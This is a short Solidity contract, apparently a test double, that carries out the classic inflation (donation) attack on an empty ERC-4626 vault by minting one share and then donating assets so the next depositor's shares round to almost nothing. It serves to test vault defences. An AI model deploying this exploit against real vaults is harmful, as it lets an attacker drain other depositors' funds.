// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";

/// @notice Test double: the classic inflation attack on an empty ERC-4626 vault. It mints itself one share, then
/// donates assets straight to the vault, so the next depositor's shares round down to (almost) nothing.
contract DonationAttacker {
    function attack(IERC4626 target, uint256 donation) external {
        IERC20 token = IERC20(target.asset());
        token.approve(address(target), 1);
        target.deposit(1, address(this));
        token.transfer(address(target), donation);
    }
}
